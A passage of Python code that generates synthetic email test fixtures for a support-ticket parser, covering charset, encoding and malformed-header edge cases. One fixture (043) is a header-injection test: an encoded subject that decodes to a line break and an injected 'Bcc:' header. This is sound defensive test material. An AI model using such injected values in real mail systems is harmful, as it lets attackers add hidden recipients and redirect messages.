Cc: "Peter Kariuki" <peter.kariuki@gmail.example>,
 Lucy Atieno <lucy.atieno@yahoo.example>
Subject: {subject}
Date: Wed, 12 Mar 2025 15:22:33 +0300
Message-ID: {mid}
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 7bit
X-Mailer: Roundcube Webmail/1.6.5

{body}""",
    )
    return data, meta(
        frm="grace@greenpark-estate.example",
        subject=subject,
        message_id=mid,
        text="are leaking water onto the floor",
        notes="Cc carries two other customers (folded Cc header); From has a "
        "(comment) after the display name.",
    )


@message("027-new-signature-block.eml", "new")
def _new_signature():
    subject = "Fridge for Wajir shop - do you deliver?"
    mid = "<CAS9xNz2Ba6Oy0Tx4Re7Wp3Lg8Ju1Mf5iHq9Pg@mail.gmail.com>"
    body = """Salaam,

Do you deliver to Wajir town? I want to buy two solar fridges for my shop and pay with M-Pesa.

-- 
Abdi Noor
Wajir Traders
P.O. Box 123-70200 Wajir
Mobile: +254 700 333 444
"""
    data = raw(
        env(
            "abdi.noor@gmail.example",
            "mail-ot1-f45.google.example",
            "192.0.2.45",
            "Wed, 12 Mar 2025 16:48:05 +0300 (EAT)",
            "4Z6vW9q2Aqz9y",
        ),
        f"""MIME-Version: 1.0
From: Abdi Noor <abdi.noor@gmail.example>
Date: Wed, 12 Mar 2025 16:48:01 +0300
Message-ID: {mid}
Subject: {subject}
To: support@fuatilia.test
Content-Type: text/plain; charset="UTF-8"

{body}""",
    )
    return data, meta(
        frm="abdi.noor@gmail.example",
        subject=subject,
        message_id=mid,
        text="Do you deliver to Wajir town",
        notes="New message ending in a standard '-- ' (dash dash space) "
        "signature block with address and phone.",
    )


@message("028-new-subject-folded.eml", "new")
def _new_subject_folded():
    subject = (
        "Request for quotation: 12 commercial display fridges for our "
        "supermarket branches in Kisumu, Kakamega and Busia"
    )
    mid = "<20250313081502.41D2A9@lakeside-supermarkets.example>"
    body = """Dear Sales Team,

Lakeside Supermarkets requests a quotation for 12 commercial display fridges (4 per branch). Please include delivery to each branch and a 2-year service plan.

Procurement Office
Lakeside Supermarkets, Kisumu
"""
    data = raw(
        env(
            "procurement@lakeside-supermarkets.example",
            "mail.lakeside-supermarkets.example",
            "203.0.113.77",
            "Thu, 13 Mar 2025 08:15:06 +0300 (EAT)",
            "4Z6wB4s8Crz9z",
        ),
        f"""From: Procurement <procurement@lakeside-supermarkets.example>
To: support@fuatilia.test
Subject: Request for quotation: 12 commercial display fridges for our
 supermarket branches in Kisumu, Kakamega and Busia
Date: Thu, 13 Mar 2025 08:15:02 +0300
Message-ID: {mid}
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

{body}""",
    )
    return data, meta(
        frm="procurement@lakeside-supermarkets.example",
        subject=subject,
        message_id=mid,
        text="requests a quotation for 12 commercial display fridges",
        notes="Plain ASCII subject folded across two lines (CRLF + space); "
        "unfolding must keep exactly one space.",
    )


@message("029-subject-rfc2047-b.eml", "charset")
def _subject_b():
    subject = (
        "Ombi la kurejeshewa pesa \u2013 M-Pesa \u2713 (KSh 4,500) \u2014 friji haikuletwa Kakamega"
    )
    mid = "<CAT4yPa7Cb1Pz5Uy9Sf2Xq8Mh3Kv6Ng0jIr4Qh@mail.gmail.com>"
    body = """Habari,

Nililipa KSh 4,500 ya usafiri tarehe 3 Machi lakini sijapokea friji mpaka leo. Naomba mnirudishie pesa kupitia M-Pesa.

Said Mohamed
"""
    data = raw(
        env(
            "said.mohamed@gmail.example",
            "mail-pg1-f42.google.example",
            "192.0.2.42",
            "Thu, 13 Mar 2025 09:30:44 +0300 (EAT)",
            "4Z6wF8t1Dsz9a",
        ),
        f"""MIME-Version: 1.0
From: Said Mohamed <said.mohamed@gmail.example>
Date: Thu, 13 Mar 2025 09:30:41 +0300
Message-ID: {mid}
Subject: {ew_b(subject)}
To: support@fuatilia.test
Content-Type: text/plain; charset="UTF-8"

{body}""",
    )
    return data, meta(
        frm="said.mohamed@gmail.example",
        subject=subject,
        message_id=mid,
        text="sijapokea friji mpaka leo",
        notes="UTF-8 subject as several RFC 2047 B encoded-words on folded "
        "lines; whitespace between adjacent encoded-words must vanish.",
    )


@message("030-subject-rfc2047-q.eml", "charset")
def _subject_q():
    tail = "Malipo ya KSh 4,500 \u2013 namba ya muamala SD81HK2PQM imetumwa"
    subject = "Re: [FT-M4R8E] " + tail
    mid = "<CAU6zQb9Dc3Qa7Vz1Tg4Yr0Ni5Lw8Oh2kJs6Ri@mail.gmail.com>"
    ours = "<ft.181.e5r7t9y2@fuatilia.test>"
    body = """Nimetuma namba ya muamala kama mlivyoomba. Tafadhali thibitisheni.

Said
"""
    data = raw(
        env(
            "said.mohamed@gmail.example",
            "mail-pg1-f42.google.example",
            "192.0.2.42",
            "Thu, 13 Mar 2025 11:02:19 +0300 (EAT)",
            "4Z6wK2v5Etz9b",
        ),
        f"""MIME-Version: 1.0
References: {ours}
In-Reply-To: {ours}
From: Said Mohamed <said.mohamed@gmail.example>
Date: Thu, 13 Mar 2025 11:02:16 +0300
Message-ID: {mid}
Subject: Re: [FT-M4R8E] {ew_q(tail)}
To: Fuatilia Support <support@fuatilia.test>
Content-Type: text/plain; charset="UTF-8"

{body}""",
    )
    return data, meta(
        frm="said.mohamed@gmail.example",
        subject=subject,
        message_id=mid,
        in_reply_to=[ours],
        references=[ours],
        ticket_ref="FT-M4R8E",
        text="Nimetuma namba ya muamala kama mlivyoomba",
        notes="Subject mixes plain text with RFC 2047 Q encoded-words "
        "('_' is a space, =2C a comma, =E2=80=93 an en dash).",
    )


@message("031-calendar-invite.eml", "attachment")
def _calendar():
    subject = (
        "Invitation: Technician visit - Green Park Block C @ Wed 19 Mar 2025 "
        "10am - 12pm (EAT) (support@fuatilia.test)"
    )
    mid = "<calendar-3b7e9f12-5a4c-4d8e-b1f0-6c2a9d7e8f31@google.example>"
    ics = """BEGIN:VCALENDAR
PRODID:-//Google Inc//Google Calendar 70.9054//EN
VERSION:2.0
CALSCALE:GREGORIAN
METHOD:REQUEST
BEGIN:VEVENT
DTSTART:20250319T070000Z
DTEND:20250319T090000Z
DTSTAMP:20250313T101500Z
ORGANIZER;CN=Grace Wanjiku:mailto:grace@greenpark-estate.example
UID:3b7e9f125a4c4d8eb1f06c2a9d7e8f31@google.example
ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=
 TRUE;CN=support@fuatilia.test;X-NUM-GUESTS=0:mailto:support@fuatilia.test
ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=ACCEPTED;RSVP=TRUE
 ;CN=Grace Wanjiku;X-NUM-GUESTS=0:mailto:grace@greenpark-estate.example
DESCRIPTION:Please send the technician to inspect the leaking fridges in fl
 ats C4 and C9. The caretaker will meet you at the gate.
LOCATION:Green Park Apartments\\, Block C\\, Kileleshwa\\, Nairobi
SEQUENCE:0
STATUS:CONFIRMED
SUMMARY:Technician visit - Green Park Block C
TRANSP:OPAQUE
END:VEVENT
END:VCALENDAR
"""
    plain = """Technician visit - Green Park Block C
Wednesday 19 Mar 2025 \u22c5 10am \u2013 12pm (East Africa Time - Nairobi)

Please send the technician to inspect the leaking fridges in flats C4 and C9. The caretaker will meet you at the gate.

Location: Green Park Apartments, Block C, Kileleshwa, Nairobi

Organizer: Grace Wanjiku - grace@greenpark-estate.example

Invitation from Google Calendar
"""
    html = """<div style="font-family:Roboto,sans-serif"><h2>Technician visit - Green Park Block C</h2><p>Wednesday 19 Mar 2025 \u22c5 10am \u2013 12pm (East Africa Time - Nairobi)</p><p>Please send the technician to inspect the leaking fridges in flats C4 and C9. The caretaker will meet you at the gate.</p><p>Location: Green Park Apartments, Block C, Kileleshwa, Nairobi</p></div>
"""
    ics_crlf = ics.replace("\n", "\r\n")
    outer, alt = "000000000000d5a8f3062f5b1c22", "000000000000d5a8f1062f5b1c20"
    data = raw(
        env(
            "grace@greenpark-estate.example",
            "mail-sor-f69.google.example",
            "192.0.2.69",
            "Thu, 13 Mar 2025 13:15:04 +0300 (EAT)",
            "4Z6wQ6x9Fvz9c",
        ),
        f"""MIME-Version: 1.0
Reply-To: Grace Wanjiku <grace@greenpark-estate.example>
Sender: Google Calendar <calendar-notification@google.example>
Message-ID: {mid}
Date: Thu, 13 Mar 2025 10:15:00 +0000
Subject: Invitation: Technician visit - Green Park Block C @ Wed 19 Mar 2025
 10am - 12pm (EAT) (support@fuatilia.test)
From: Grace Wanjiku <grace@greenpark-estate.example>
To: support@fuatilia.test
Content-Type: multipart/mixed; boundary="{outer}"

--{outer}
Content-Type: multipart/alternative; boundary="{alt}"

--{alt}
Content-Type: text/plain; charset="UTF-8"; format=flowed; delsp=yes
Content-Transfer-Encoding: base64

{b64text(plain)}
--{alt}
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(html)}
--{alt}
Content-Type: text/calendar; charset="UTF-8"; method=REQUEST
Content-Transfer-Encoding: 7bit

{ics}
--{alt}--

--{outer}
Content-Type: application/ics; name="invite.ics"
Content-Disposition: attachment; filename="invite.ics"
Content-Transfer-Encoding: base64

{b64(ics_crlf.encode("utf-8"))}
--{outer}--
""",
    )
    return data, meta(
        frm="grace@greenpark-estate.example",
        subject=subject,
        message_id=mid,
        text="inspect the leaking fridges in flats C4 and C9",
        attachments=["invite.ics"],
        notes="Google Calendar invitation: text/calendar method=REQUEST "
        "alternative plus invite.ics attachment; Sender differs from "
        "From; folded subject.",
    )


# ===========================================================================
# charsets
# ===========================================================================


@message("032-charset-iso-8859-1.eml", "charset")
def _latin1():
    subject = "Commande r\u00e9frig\u00e9rateur - Caf\u00e9 Kahawa Tamu"
    mid = "<20250313094411.GA2291@cafe-kahawatamu.example>"
    body = """Bonjour,

Le r\u00e9frig\u00e9rateur de la vitrine ne descend pas sous 9 \u00b0C depuis lundi. Nous avons pay\u00e9 45 000 KSh (facture n\u00b0 2291) et la garantie est d'un an.

Pouvez-vous envoyer un technicien \u00e0 notre caf\u00e9 de Kilimani ? Nous sommes ouverts de 7 h \u00e0 21 h.

Merci d'avance,
Jean-Claude Mugisha
Caf\u00e9 Kahawa Tamu, Nairobi
"""
    data = raw(
        env(
            "jc.mugisha@cafe-kahawatamu.example",
            "smtp.cafe-kahawatamu.example",
            "203.0.113.85",
            "Thu, 13 Mar 2025 09:44:15 +0300 (EAT)",
            "4Z6wH0z3Gwz9d",
        ),
        f"""Date: Thu, 13 Mar 2025 09:44:11 +0300
From: Jean-Claude Mugisha <jc.mugisha@cafe-kahawatamu.example>
To: support@fuatilia.test
Subject: {ew_q(subject, "ISO-8859-1")}
Message-ID: {mid}
MIME-Version: 1.0
Content-Type: text/plain; charset=iso-8859-1
Content-Disposition: inline
Content-Transfer-Encoding: 8bit
User-Agent: Mutt/2.2.12 (2023-09-09)

""",
        (body, "latin-1"),
    )
    return data, meta(
        frm="jc.mugisha@cafe-kahawatamu.example",
        subject=subject,
        message_id=mid,
        text="ne descend pas sous 9 \u00b0C depuis lundi",
        notes="French-speaking customer, 8bit ISO-8859-1 body (\u00e9, \u00b0, "
        "\u00e0) and an ISO-8859-1 Q-encoded subject (Mutt).",
    )


@message("033-charset-windows-1252.eml", "charset")
def _cp1252():
    subject = "Quote for \u201cBaridi Pro\u201d cold room \u2013 \u20ac450 deposit"
    mid = "<000d01db9412$8c7a3e10$a56eba30$@naivashablooms.example>"
    body = """Dear Fuatilia,

We\u2019ve transferred the \u20ac450 deposit for the \u201cBaridi Pro\u201d cold room to your account at Equity Bank \u2013 our bank charges are on us.

The cold room must hold 2\u20134 \u00b0C for the roses\u2026 please confirm the installation date at our farm near Lake Naivasha.

Pieter van Dijk
Naivasha Blooms B.V.
"""
    html = """<html><head><meta http-equiv=Content-Type content="text/html; charset=windows-1252"></head><body lang=EN-GB><div class=WordSection1><p class=MsoNormal>Dear Fuatilia,</p><p class=MsoNormal>We\u2019ve transferred the \u20ac450 deposit for the \u201cBaridi Pro\u201d cold room to your account at Equity Bank \u2013 our bank charges are on us.</p><p class=MsoNormal>The cold room must hold 2\u20134 \u00b0C for the roses\u2026 please confirm the installation date at our farm near Lake Naivasha.</p><p class=MsoNormal>Pieter van Dijk<br>Naivasha Blooms B.V.</p></div></body></html>
"""
    bnd = "----=_NextPart_000_000E_01DB942B.B1C47A10"
    data = raw(
        env(
            "p.vandijk@naivashablooms.example",
            "smtp.naivashablooms.example",
            "203.0.113.99",
            "Thu, 13 Mar 2025 10:31:52 +0300 (EAT)",
            "4Z6wM5b7Hxz9f",
        ),
        f"""From: "Pieter van Dijk" <p.vandijk@naivashablooms.example>
To: <support@fuatilia.test>
Subject: {ew_q(subject, "Windows-1252")}
Date: Thu, 13 Mar 2025 08:31:48 +0100
Message-ID: {mid}
MIME-Version: 1.0
Content-Type: multipart/alternative;
	boundary="{bnd}"
X-Mailer: Microsoft Outlook 16.0
Thread-Index: AduUEotPz2k1v8mTRZ6xK0c3b9W4Ag==
Content-Language: nl

This is a multipart message in MIME format.

--{bnd}
Content-Type: text/plain;
	charset="Windows-1252"
Content-Transfer-Encoding: 8bit

""",
        (body, "cp1252"),
        f"""
--{bnd}
Content-Type: text/html;
	charset="Windows-1252"
Content-Transfer-Encoding: quoted-printable

{qp(html, "cp1252")}
--{bnd}--
""",
    )
    return data, meta(
        frm="p.vandijk@naivashablooms.example",
        subject=subject,
        message_id=mid,
        text="We\u2019ve transferred the \u20ac450 deposit for the \u201cBaridi Pro\u201d cold room",
        notes="Outlook with Windows-1252: raw 8bit smart quotes (0x93/0x94/"
        "0x92), euro (0x80), en dash and ellipsis in text/plain; QP in "
        "html; Q-encoded Windows-1252 subject. Decoding as ISO-8859-1 "
        "yields C1 control characters.",
    )


@message("034-charset-shift-jis.eml", "charset")
def _shift_jis():
    subject = "\u51b7\u8535\u5eab\u306e\u4fee\u7406\u306b\u3064\u3044\u3066\uff08\u30ca\u30a4\u30ed\u30d3\uff09"
    mid = "<20250313114502.7A1C.Y.TANAKA@nairobi-jp.example>"
    body = """Fuatilia \u30b5\u30dd\u30fc\u30c8\u5fa1\u4e2d

\u304a\u4e16\u8a71\u306b\u306a\u3063\u3066\u304a\u308a\u307e\u3059\u3002\u30ca\u30a4\u30ed\u30d3\u306e\u30a6\u30a7\u30b9\u30c8\u30e9\u30f3\u30ba\u306b\u4f4f\u3093\u3067\u3044\u308b\u7530\u4e2d\u3067\u3059\u3002
\u5148\u9031\u8cfc\u5165\u3057\u305f\u51b7\u8535\u5eab\u304c\u51b7\u3048\u306a\u304f\u306a\u308a\u307e\u3057\u305f\u3002M-Pesa\u3067\u652f\u6255\u3044\u6e08\u307f\u3067\u3059\uff08KSh 52,000\uff09\u3002
\u4fee\u7406\u306e\u62c5\u5f53\u8005\u3092\u6d3e\u9063\u3057\u3066\u3044\u305f\u3060\u3051\u307e\u3059\u3067\u3057\u3087\u3046\u304b\u3002

\u3088\u308d\u3057\u304f\u304a\u9858\u3044\u3044\u305f\u3057\u307e\u3059\u3002
\u7530\u4e2d \u7531\u7d00
"""
    data = raw(
        env(
            "y.tanaka@nairobi-jp.example",
            "mail.nairobi-jp.example",
            "203.0.113.110",
            "Thu, 13 Mar 2025 11:45:07 +0300 (EAT)",
            "4Z6wR9d1Jyz9g",
        ),
        f"""Date: Thu, 13 Mar 2025 11:45:02 +0300
From: Tanaka Yuki <y.tanaka@nairobi-jp.example>
To: support@fuatilia.test
Subject: {ew_b(subject, "Shift_JIS")}
Message-Id: {mid}
MIME-Version: 1.0
Content-Type: text/plain; charset="Shift_JIS"
Content-Transfer-Encoding: 8bit
X-Mailer: Becky! ver. 2.81.04

""",
        (body, "shift_jis"),
    )
    return data, meta(
        frm="y.tanaka@nairobi-jp.example",
        subject=subject,
        message_id=mid,
        text="\u5148\u9031\u8cfc\u5165\u3057\u305f\u51b7\u8535\u5eab\u304c\u51b7\u3048\u306a\u304f\u306a\u308a\u307e\u3057\u305f",
        notes="Japanese customer in Nairobi: 8bit Shift_JIS body and Shift_JIS B-encoded subject.",
    )


@message("035-charset-cp932-labelled-shift-jis.eml", "charset")
def _cp932():
    subject = "\u7d0d\u54c1\u66f8\u306e\u4ef6"
    mid = "<20250313120931.5B2E.K.SATO@nairobi-jp.example>"
    # U+2460/2461 (circled digits), U+9AD9 and U+FF5E exist only in cp932
    # (Windows) -- Windows mailers still label such text "Shift_JIS".
    body = """Fuatilia \u5fa1\u4e2d

\u4f50\u85e4\u3067\u3059\u3002\u6628\u65e5\u3001\u51b7\u8535\u5eab\u304c\u5c4a\u304d\u307e\u3057\u305f\u3002
\u2460 \u7d0d\u54c1\u66f8\u306e\u5b9b\u540d\u304c\u300c\u9ad9\u6a4b\u300d\u306b\u306a\u3063\u3066\u3044\u307e\u3059\u3002
\u2461 \u914d\u9054\u6642\u9593\u306f 9:00\uff5e12:00 \u3067\u3057\u305f\u3002

\u4f50\u85e4 \u5065\u4e8c
"""
    data = raw(
        env(
            "k.sato@nairobi-jp.example",
            "mail.nairobi-jp.example",
            "203.0.113.110",
            "Thu, 13 Mar 2025 12:09:36 +0300 (EAT)",
            "4Z6wT1f4Kaz9h",
        ),
        f"""Date: Thu, 13 Mar 2025 12:09:31 +0300
From: Sato Kenji <k.sato@nairobi-jp.example>
To: support@fuatilia.test
Subject: {ew_b(subject, "Shift_JIS")}
Message-Id: {mid}
MIME-Version: 1.0
Content-Type: text/plain; charset="Shift_JIS"
Content-Transfer-Encoding: 8bit
X-Mailer: Microsoft Outlook Express 6.00.2900.5931

""",
        (body, "cp932"),
    )
    return data, meta(
        frm="k.sato@nairobi-jp.example",
        subject=subject,
        message_id=mid,
        text="\u6628\u65e5\u3001\u51b7\u8535\u5eab\u304c\u5c4a\u304d\u307e\u3057\u305f",
        notes="Body encoded as cp932 but labelled Shift_JIS: circled digits "
        "and \u9ad9 are undecodable with Python's shift_jis (become "
        "U+FFFD) and 0x8160 decodes to U+301C instead of U+FF5E; "
        "decoding as cp932 recovers them.",
    )


@message("036-charset-iso-2022-jp.eml", "charset")
def _iso2022jp():
    subject = "\u914d\u9054\u65e5\u306e\u5909\u66f4\u306e\u304a\u9858\u3044"
    mid = "<20250313131500.9C4D.H.SUZUKI@nairobi-jp.example>"
    body = """Fuatilia \u5fa1\u4e2d

\u9234\u6728\u3067\u3059\u3002\u6765\u9031\u706b\u66dc\u65e5\u306e\u914d\u9054\u3092\u6728\u66dc\u65e5\u306b\u914d\u9054\u65e5\u3092\u5909\u66f4\u3057\u3066\u3044\u305f\u3060\u3051\u307e\u3059\u304b\u3002
\u4f4f\u6240\u306f\u30ad\u30ea\u30de\u30cb\u306e\u307e\u307e\u3067\u3059\u3002

\u9234\u6728 \u82b1
"""
    data = raw(
        env(
            "h.suzuki@nairobi-jp.example",
            "mail.nairobi-jp.example",
            "203.0.113.110",
            "Thu, 13 Mar 2025 13:15:05 +0300 (EAT)",
            "4Z6wW6h8Lbz9j",
        ),
        f"""Date: Thu, 13 Mar 2025 13:15:00 +0300
From: Suzuki Hana <h.suzuki@nairobi-jp.example>
To: support@fuatilia.test
Subject: {ew_b(subject, "ISO-2022-JP")}
Message-Id: {mid}
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-2022-JP
Content-Transfer-Encoding: 7bit
X-Mailer: Sylpheed 3.7.0 (GTK+ 2.24.33; x86_64-pc-mingw32)

""",
        (body, "iso2022_jp"),
    )
    return data, meta(
        frm="h.suzuki@nairobi-jp.example",
        subject=subject,
        message_id=mid,
        text="\u914d\u9054\u65e5\u3092\u5909\u66f4\u3057\u3066\u3044\u305f\u3060\u3051\u307e\u3059\u304b",
        notes="Stateful 7-bit ISO-2022-JP body (escape sequences) and "
        "ISO-2022-JP B-encoded subject.",
    )


@message("037-charset-koi8-r.eml", "charset")
def _koi8r():
    subject = "\u0425\u043e\u043b\u043e\u0434\u0438\u043b\u044c\u043d\u0438\u043a \u0434\u043b\u044f \u043e\u0444\u0438\u0441\u0430 \u0432 \u041c\u043e\u043c\u0431\u0430\u0441\u0435"
    mid = "<1741860922.837201.volkov@safari-logistics.example>"
    name = "\u0414\u043c\u0438\u0442\u0440\u0438\u0439 \u0412\u043e\u043b\u043a\u043e\u0432"
    body = """\u0417\u0434\u0440\u0430\u0432\u0441\u0442\u0432\u0443\u0439\u0442\u0435!

\u041c\u044b \u043a\u0443\u043f\u0438\u043b\u0438 \u0443 \u0432\u0430\u0441 \u0445\u043e\u043b\u043e\u0434\u0438\u043b\u044c\u043d\u0438\u043a \u0434\u043b\u044f \u043d\u0430\u0448\u0435\u0433\u043e \u043e\u0444\u0438\u0441\u0430 \u0432 \u041c\u043e\u043c\u0431\u0430\u0441\u0435, \u043d\u043e \u043e\u043d \u0441\u0438\u043b\u044c\u043d\u043e \u0448\u0443\u043c\u0438\u0442 \u043f\u043e \u043d\u043e\u0447\u0430\u043c.
\u041e\u043f\u043b\u0430\u0442\u0430 \u0431\u044b\u043b\u0430 \u0447\u0435\u0440\u0435\u0437 M-Pesa.

\u0421 \u0443\u0432\u0430\u0436\u0435\u043d\u0438\u0435\u043c,
\u0414\u043c\u0438\u0442\u0440\u0438\u0439 \u0412\u043e\u043b\u043a\u043e\u0432
Safari Logistics, Mombasa
"""
    data = raw(
        env(
            "d.volkov@safari-logistics.example",
            "smtp.safari-logistics.example",
            "203.0.113.121",
            "Thu, 13 Mar 2025 13:55:26 +0300 (EAT)",
            "4Z6wY2j5Mcz9k",
        ),
        f"""From: {ew_b(name, "KOI8-R")} <d.volkov@safari-logistics.example>
To: support@fuatilia.test
Subject: {ew_b(subject, "KOI8-R")}
Date: Thu, 13 Mar 2025 13:55:22 +0300
Message-ID: {mid}
MIME-Version: 1.0
Content-Type: text/plain; charset=koi8-r
Content-Transfer-Encoding: 8bit
X-Mailer: The Bat! (v10.4.0.1) Professional

""",
        (body, "koi8_r"),
    )
    return data, meta(
        frm="d.volkov@safari-logistics.example",
        subject=subject,
        message_id=mid,
        text="\u043d\u043e \u043e\u043d \u0441\u0438\u043b\u044c\u043d\u043e \u0448\u0443\u043c\u0438\u0442 \u043f\u043e \u043d\u043e\u0447\u0430\u043c",
        notes="Russian 8bit KOI8-R body, KOI8-R B-encoded subject and display name.",
    )


@message("038-charset-unknown-label.eml", "charset")
def _unknown_charset():
    subject = "Fridge thermostat knob missing"
    mid = "<20250313144017.3E5F@kariuki-pc.example>"
    body = """Hi,

The thermostat knob on my fridge is missing. It came like that in the box, I only noticed today.

Asante \u2013 Peter Kariuki, Nyahururu
"""
    data = raw(
        env(
            "peter.kariuki@gmail.example",
            "mail-qt1-f48.google.example",
            "192.0.2.48",
            "Thu, 13 Mar 2025 14:40:21 +0300 (EAT)",
            "4Z6x1Z7k9Ndz9m",
        ),
        f"""From: Peter Kariuki <peter.kariuki@gmail.example>
To: support@fuatilia.test
Subject: {subject}
Date: Thu, 13 Mar 2025 14:40:17 +0300
Message-ID: {mid}
MIME-Version: 1.0
Content-Type: text/plain; charset="x-unknown"
Content-Transfer-Encoding: 8bit

""",
        (body, "utf-8"),
    )
    return data, meta(
        frm="peter.kariuki@gmail.example",
        subject=subject,
        message_id=mid,
        text="The thermostat knob on my fridge is missing",
        notes='charset="x-unknown": EmailMessage.get_content() raises '
        "LookupError; a parser must fall back (the bytes are UTF-8).",
    )


@message("039-charset-mislabeled-us-ascii.eml", "charset")
def _mislabeled_ascii():
    subject = "Express delivery not received"
    mid = "<1741867503.219384.atieno@mail.yahoo.example>"
    body = """Hello,

I paid for express delivery to Kakamega (KSh 3,500 \u2013 \u201cexpress\u201d option) but the fridge came after 6 days like normal delivery.

Lucy Atieno
"""
    data = raw(
        env(
            "lucy.atieno@yahoo.example",
            "sonic310-14.consmr.mail.ne1.yahoo.example",
            "198.51.100.14",
            "Thu, 13 Mar 2025 15:05:07 +0300 (EAT)",
            "4Z6x3B1m2Pez9n",
        ),
        f"""Date: Thu, 13 Mar 2025 12:05:03 +0000 (UTC)
From: Lucy Atieno <lucy.atieno@yahoo.example>
To: support@fuatilia.test
Message-ID: {mid}
Subject: {subject}
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 8bit

""",
        (body, "utf-8"),
    )
    return data, meta(
        frm="lucy.atieno@yahoo.example",
        subject=subject,
        message_id=mid,
        text="I paid for express delivery to Kakamega",
        notes="Declared charset=us-ascii but the body holds UTF-8 bytes (en "
        "dash, curly quotes): stdlib get_content() silently yields "
        "U+FFFD; sniffing UTF-8 recovers the text.",
    )


@message("040-charset-no-content-type-8bit.eml", "charset")
def _no_content_type():
    subject = "Minibar fridges not cooling"
    mid = "<20250313160144.A77F21@lakeviewhotel.example>"
    body = """Good afternoon,

Our minibar fridges in rooms 204 and 207 are not cooling \u2013 please send someone today. The KSh 2,000 call-out fee is OK.

Ouma Otieno
Maintenance, Lakeview Hotel Kisumu
"""
    data = raw(
        env(
            "ouma@lakeviewhotel.example",
            "mail.lakeviewhotel.example",
            "203.0.113.130",
            "Thu, 13 Mar 2025 16:01:48 +0300 (EAT)",
            "4Z6x6D3n4Qfz9p",
        ),
        f"""From: Ouma Otieno <ouma@lakeviewhotel.example>
To: support@fuatilia.test
Subject: {subject}
Date: Thu, 13 Mar 2025 16:01:44 +0300
Message-ID: {mid}

""",
        (body, "utf-8"),
    )
    return data, meta(
        frm="ouma@lakeviewhotel.example",
        subject=subject,
        message_id=mid,
        text="minibar fridges in rooms 204 and 207",
        notes="No MIME-Version and no Content-Type, yet the body has raw UTF-8"
        " bytes: RFC default is text/plain us-ascii, so get_content() "
        "replaces the en dash with U+FFFD.",
    )


@message("041-header-raw-utf8-bytes.eml", "malformed")
def _raw_utf8_header():
    subject = "Habari \u2013 friji ya Wanjir\u0169 imeharibika"
    mid = "<20250313170233.4412@wanjiru-phone.example>"
    body = """Friji yangu ya Baridi 180L imeharibika, mlango haufungi vizuri na inavuja maji.

Wanjir\u0169
"""
    data = raw(
        env(
            "wanjiru.k@gmail.example",
            "mail-yb1-f55.google.example",
            "192.0.2.55",
            "Thu, 13 Mar 2025 17:02:37 +0300 (EAT)",
            "4Z6x8F5p6Rgz9q",
        ),
        (
            """From: Wanjir\u0169 Kamau <wanjiru.k@gmail.example>
To: Fuatilia Support <support@fuatilia.test>
Subject: Habari \u2013 friji ya Wanjir\u0169 imeharibika
Date: Thu, 13 Mar 2025 17:02:33 +0300
Message-ID: """
            + mid
            + """
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

"""
            + body,
            "utf-8",
        ),
    )
    return data, meta(
        frm="wanjiru.k@gmail.example",
        subject=subject,
        message_id=mid,
        text="mlango haufungi vizuri na inavuja maji",
        notes="Raw 8-bit UTF-8 in From and Subject (no RFC 2047): str(subject)"
        " decodes correctly but From.addresses[0].display_name holds "
        "surrogate escapes and the header has UndecodableBytesDefect.",
    )


@message("042-header-raw-latin1-bytes.eml", "malformed")
def _raw_latin1_header():
    # what Python's stdlib returns (U+FFFD per byte), not what was meant
    subject = "R\ufffdclamation: r\ufffdfrig\ufffdrateur livr\ufffd cass\ufffd"
    mid = "<20250313173015.GB5512@habimana-laptop.example>"
    body = """Bonjour,

Le r\u00e9frig\u00e9rateur a \u00e9t\u00e9 livr\u00e9 cass\u00e9 ce matin \u00e0 Lavington : la porte du cong\u00e9lateur est fendue.

Ren\u00e9 Habimana
"""
    data = raw(
        env(
            "rene.habimana@habimana.example",
            "smtp.habimana.example",
            "203.0.113.141",
            "Thu, 13 Mar 2025 17:30:19 +0300 (EAT)",
            "4Z6xB7r8Shz9r",
        ),
        (
            """From: Ren\u00e9 Habimana <rene.habimana@habimana.example>
To: support@fuatilia.test
Subject: R\u00e9clamation: r\u00e9frig\u00e9rateur livr\u00e9 cass\u00e9
Date: Thu, 13 Mar 2025 17:30:15 +0300
Message-ID: """
            + mid
            + """
MIME-Version: 1.0
Content-Type: text/plain; charset=iso-8859-1
Content-Transfer-Encoding: 8bit

"""
            + body,
            "latin-1",
        ),
    )
    return data, meta(
        frm="rene.habimana@habimana.example",
        subject=subject,
        message_id=mid,
        text="la porte du cong\u00e9lateur est fendue",
        notes="Raw 8-bit ISO-8859-1 in From and Subject: the manifest subject "
        "is what stdlib gives (each byte -> U+FFFD); the sender meant "
        "'R\u00e9clamation: r\u00e9frig\u00e9rateur livr\u00e9 cass\u00e9' "
        "(body charset is the only hint).",
    )


@message("043-subject-encoded-crlf-injection.eml", "malformed")
def _encoded_crlf():
    subject = "Refund request\r\nBcc: everyone@fuatilia.test"
    mid = "<20250313180201.6A1B@mailer.example>"
    enc = base64.b64encode(subject.encode("utf-8")).decode("ascii")
    body = """Please refund my deposit for order 58001, the fridge was never delivered.

Brian Otieno
"""
    data = raw(
        env(
            "brian.otieno@mailer.example",
            "mailer.example",
            "203.0.113.150",
            "Thu, 13 Mar 2025 18:02:05 +0300 (EAT)",
            "4Z6xD9t0Tiz9s",
        ),
        f"""From: Brian Otieno <brian.otieno@mailer.example>
To: support@fuatilia.test
Subject: =?UTF-8?B?{enc}?=
Date: Thu, 13 Mar 2025 18:02:01 +0300
Message-ID: {mid}
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

{body}""",
    )
    return data, meta(
        frm="brian.otieno@mailer.example",
        subject=subject,
        message_id=mid,
        text="the fridge was never delivered",
        notes="B-encoded subject that decodes to text containing CR LF and a "
        "'Bcc:' line; stdlib returns it verbatim -- never copy it into "
        "an outgoing header without stripping control characters.",
    )


# ===========================================================================
# malformed / odd headers
# ===========================================================================


@message("044-missing-message-id.eml", "malformed")
def _no_message_id():
    subject = "Fridge light not working"
